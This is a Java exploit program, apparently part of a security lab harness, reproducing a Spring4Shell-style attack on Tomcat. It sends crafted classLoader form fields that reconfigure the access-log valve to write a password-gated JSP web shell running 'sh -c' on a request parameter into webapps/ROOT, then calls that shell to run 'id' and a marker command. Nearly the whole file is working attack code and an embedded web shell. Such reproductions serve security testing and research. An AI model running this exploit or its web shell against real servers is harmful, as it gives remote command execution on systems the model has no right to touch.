import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String prefix = "class.module.classLoader.resources.context.parent.pipeline.first.";
    String page =
        "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ Runtime.getRuntime().exec(new"
            + " String[] {\"sh\", \"-c\", request.getParameter(\"c\")}); } %{suffix}i";
    String form =
        prefix
            + "pattern="
            + Attacker.encode(page)
            + "&"
            + prefix
            + "suffix=.jsp"
            + "&"
            + prefix
            + "directory=webapps/ROOT"
            + "&"
            + prefix
            + "prefix=tomcatwar"
            + "&"
            + prefix
            + "fileDateFormat=";
    Attacker.post(
        "/greet",
        form,
        "Content-Type",
        "application/x-www-form-urlencoded",
        "suffix",
        "%>//",
        "c2",
        "<%");
    Attacker.post(
        "/greet",
        form,
        "Content-Type",
        "application/x-www-form-urlencoded",
        "suffix",
        "%>//",
        "c2",
        "<%");
    // the access log is written to the disk by the background thread
    Thread.sleep(12_000);
    Attacker.get("/tomcatwar.jsp?pwd=j&c=" + Attacker.encode("id; " + Attacker.touch()));
    Attacker.done();
  }
}
